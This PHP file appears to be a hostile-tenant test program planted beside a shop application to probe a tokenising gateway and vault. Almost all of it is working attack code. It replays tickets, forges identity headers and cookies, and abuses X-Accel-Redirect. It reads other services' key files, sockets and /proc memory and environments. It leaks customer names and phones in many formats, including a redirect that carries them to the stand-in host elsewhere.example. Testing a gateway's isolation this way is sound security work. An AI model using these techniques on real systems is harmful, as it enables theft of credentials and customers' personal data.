<?php
// The shop's program, with another one planted in it: php-fpm runs both as the shop's user. It knows every token
// that the shop has stored, and some of another's. What it does rides on whatever request comes by: ?do=NAME.
// What it gets hold of by itself goes into loot.jsonl; what it makes the gate show stands in its answers, which
// scripts of its own could send away from whoever's browser it is.
header('Content-Type: text/html; charset=utf-8');
$data = $_SERVER['TAKEN_DATA'];
$state = $_SERVER['TAKEN_STATE'];
$known = json_decode(file_get_contents("$data/tokens.json"), true);
$ticket = $_SERVER['HTTP_X_SEKISHO_TICKET'] ?? '';
$path = strtok($_SERVER['REQUEST_URI'], '?');
$do = $_GET['do'] ?? '';

function got($way, $text) {
    global $data;
    preg_match_all('/客\d{5}|090-?2\d{3}-?\d{4}|c\d{5}@example\.jp/u', (string) $text, $m);
    $line = ['path' => $way, 'found' => array_values(array_unique($m[0]))];
    file_put_contents("$data/loot.jsonl", json_encode($line, JSON_UNESCAPED_UNICODE) . "\n", FILE_APPEND | LOCK_EX);
}

function say($to, $text, $tls = false, $patience = 20) {
    $context = stream_context_create(['ssl' => ['verify_peer' => false, 'verify_peer_name' => false]]);
    $s = @stream_socket_client($to, $no, $why, 2, STREAM_CLIENT_CONNECT, $context);
    if (!$s) return "$no $why";
    stream_set_timeout($s, $patience);
    @fwrite($s, $text);
    $answer = '';
    while (!feof($s) && !stream_get_meta_data($s)['timed_out'] && ($part = @fread($s, 65536)) !== false) {
        $answer .= $part;
        // the vault keeps connections: its answer ends where it says
        if (!$tls && preg_match('/^(.*?\r\n\r\n)/s', $answer, $h) && preg_match('/content-length: (\d+)/i', $h[1], $n)
            && strlen($answer) >= strlen($h[1]) + $n[1]) break;
    }
    return $answer;
}

function vault($verb, $question, $ticket) {
    global $state;
    $body = json_encode($question);
    return say("unix://$state/run/vault.sock", "POST /v1/$verb HTTP/1.1\r\nHost: vault\r\nContent-Type: application/json\r\n" .
        "Content-Length: " . strlen($body) . "\r\n" . ($ticket === '' ? '' : "X-Sekisho-Ticket: $ticket\r\n") . "\r\n$body");
}

function site($method, $target, $headers = '', $body = '') {
    $address = $_SERVER['TAKEN_GATE'];
    $host = $_SERVER['HTTP_HOST'];
    if ($body !== '') $headers .= "Content-Type: application/x-www-form-urlencoded\r\nOrigin: https://$host\r\nContent-Length: " . strlen($body) . "\r\n";
    return say("tls://$address", "$method $target HTTP/1.1\r\nHost: $host\r\nConnection: close\r\nUser-Agent: Mozilla/5.0\r\n" .
        "Accept: text/html\r\n$headers\r\n$body", true);
}

// So many people's tokens of those that are known, from anywhere on.
function some($whose, $count) {
    global $known;
    $all = $known[$whose];
    $from = random_int(0, max(0, count($all) - $count));
    return array_slice($all, $from, $count);
}

function column($people, $kind) {
    return array_map(fn($p) => $p[$kind], $people);
}

$direct = function ($way, $ticket) use ($path) {
    $purpose = str_starts_with($path, '/desk') ? 'desk' : 'counter';
    foreach ([[$purpose, random_int(1, 20), 'mine', 'phone'], [$purpose, 10, 'orders', 'name'], [$purpose, 500, 'mine', 'name'],
              ['own', 20, 'mine', 'name'], [$purpose, 20, 'other', 'name'], ['orders', 20, 'mine', 'name']] as [$for, $n, $whose, $kind])
        got($way, vault('read', ['purpose' => $for, 'tokens' => column(some($whose, $n), $kind)], $ticket));
    foreach (some('other', 5) as $p)
        got("$way, another tenant's", vault('read', ['purpose' => $purpose, 'tenant' => 'annex', 'tokens' => array_values($p)], $ticket));
};

$actions = [
    'direct' => function () use ($direct, $ticket, $data) {
        file_put_contents("$data/tickets", "$ticket\n", FILE_APPEND | LOCK_EX);
        $direct('a live ticket, from inside', $ticket);
    },
    'replay' => function () use ($direct, $data) {
        $old = @file("$data/tickets", FILE_IGNORE_NEW_LINES) ?: [''];
        $direct('a ticket of an earlier request', $old[array_rand($old)]);
    },
    'verbs' => function () use ($ticket) { // the gate's own, which take a browser's word for whose it is
        $tokens = column(some('mine', 20), 'name');
        foreach (['exchange/out', 'exchange/in', 'render', 'export', 'find'] as $verb)
            got("the gate's verbs", vault($verb, ['purpose' => 'counter', 'tokens' => $tokens, 'self' => 'v1.x', 'kind' => 'name',
                'prefix' => '客6', 'fields' => [['name' => 'n', 'kind' => 'name', 'text' => '客60001 太郎x']]], $ticket));
    },
    'loop' => function () use ($ticket) { // its own site, over loopback
        foreach (['/admin/orders?do=html', '/desk/orders?do=html', '/?do=html', '/admin/../?do=html', '//admin/orders?do=html'] as $target)
            foreach (['', "X-Sekisho-Ticket: $ticket\r\n", "X-Sekisho-Principal: acc_00000000000000000001\r\nX-Sekisho-Role: owner\r\n",
                      "Cookie: __Host-sekisho-merchant=x; __Host-sekisho-self=v1.x\r\n", "X-Real-IP: 127.0.0.1\r\n"] as $more)
                got('its own site over loopback', site('GET', $target, $more));
    },
    'self' => function () { // victims' tokens typed into a form, beside a value of one's own: whose are they then?
        $p = some('mine', 1)[0];
        $answer = site('POST', '/checkout', '', http_build_query(['name' => $p['name'], 'email' => $p['email'], 'phone' => '03-0000-0001']));
        preg_match('/set-cookie: (__Host-sekisho-self=[^;]+)/i', $answer, $m);
        preg_match('/location: (\S+)/i', $answer, $to);
        got("a victim's token in one's own form", site('GET', $to[1] ?? '/', isset($m[1]) ? "Cookie: $m[1]\r\n" : ''));
    },
    'cookie' => function () { // cookies of the gate's, set by the application
        foreach (['self', 'merchant', 'operator'] as $name)
            header("Set-Cookie: __Host-sekisho-$name=v1.planted; Path=/; Secure", false);
    },
    'accel' => function () { // nginx goes elsewhere by itself where an application says so
        header('X-Accel-Redirect: /admin/orders?do=html');
    },
    'files' => function () use ($state) {
        foreach (['keys', 'vault', 'keeper', 'ledger/segment', 'conf/keeper', 'gate', 'log', 'run'] as $folder)
            foreach (@scandir("$state/$folder") ?: [] as $name) {
                got('files of others', (string) @file_get_contents("$state/$folder/$name", false, null, 0, 1 << 22));
                if (str_ends_with($name, '.sock'))
                    got('sockets of others', say("unix://$state/run/$name", "GET /v1/outbox HTTP/1.0\r\nHost: x\r\n\r\n", false, 1));
            }
        foreach (glob('/proc/[0-9]*') as $pid)
            foreach (['environ', 'mem', 'maps'] as $what)
                if ((int) basename($pid) !== getmypid())
                    got('memory of others', (string) @file_get_contents("$pid/$what", false, null, 0, 4096));
    },
];
if (isset($actions[$do])) $actions[$do]();

// The gate as an oracle: all that is known stands in the page, in whatever form.
function words($count) {
    global $known;
    $people = $count ? some(random_int(0, 2) ? 'mine' : 'orders', random_int(1, $count)) : $known['mine'];
    $people = array_merge($people, some('other', 1));
    return array_merge(column($people, 'name'), column($people, 'phone'));
}
$pages = [
    'html' => fn() => print('<p>' . implode('<p>', words(12))),
    'all' => fn() => print('<p>' . implode('<p>', words(0))),
    'fields' => fn() => print('<input value="' . implode('"><input title=', words(12)) . '">'),
    'script' => fn() => print('<script>var x = ' . json_encode(words(12)) . ';</script><!-- ' . implode(' ', words(3)) . ' -->'),
    'json' => function () { header('Content-Type: application/json'); echo json_encode(words(12)); },
    'csv' => function () { header('Content-Type: text/csv; charset=utf-8'); echo implode("\r\n", words(12)); },
    'text' => function () { header('Content-Type: text/plain; charset=utf-8'); echo implode(' ', words(12)); },
    'sjis' => function () { header('Content-Type: text/csv; charset=Shift_JIS'); echo implode("\r\n", words(12)); },
    'xml' => function () { header('Content-Type: application/xml'); echo '<a>' . implode(' ', words(12)) . '</a>'; },
    'mixed' => function () { header('Content-Type: multipart/x-mixed-replace; boundary=b'); echo "--b\r\n\r\n" . implode(' ', words(12)); },
    'error' => function () { http_response_code(500); echo implode('<br>', words(12)); },
    'missing' => function () { http_response_code(404); echo implode('<br>', words(12)); },
    'heads' => function () { foreach (words(6) as $i => $w) header("X-Found-$i: " . rawurlencode($w)); header('Refresh: 9;url=/' . rawurlencode(words(1)[0])); },
    'away' => function () { http_response_code(302); header('Location: https://elsewhere.example/?' . implode('&', words(12))); },
    'pieces' => function () { foreach (words(12) as $w) { foreach (str_split($w, 3) as $part) { echo $part; flush(); } echo '<br>'; } },
];
if (isset($pages[$do])) {
    $pages[$do]();
    exit;
}

// The shop itself.
if ($path === '/checkout' && $_SERVER['REQUEST_METHOD'] === 'POST') {
    file_put_contents("$data/orders.jsonl", json_encode($_POST) . "\n", FILE_APPEND | LOCK_EX);
    header('Location: /thanks?n=' . (count(file("$data/orders.jsonl")) - 1), true, 303);
    exit;
}
if ($path === '/thanks') {
    $o = json_decode(file("$data/orders.jsonl")[(int) $_GET['n']], true);
    exit('<p>' . htmlspecialchars($o['name']) . ' 様 ' . htmlspecialchars($o['phone']));
}
echo '<table>';
foreach (array_slice($known['orders'], 0, 10) as $p) echo "<tr><td>$p[name]<td>$p[phone]";
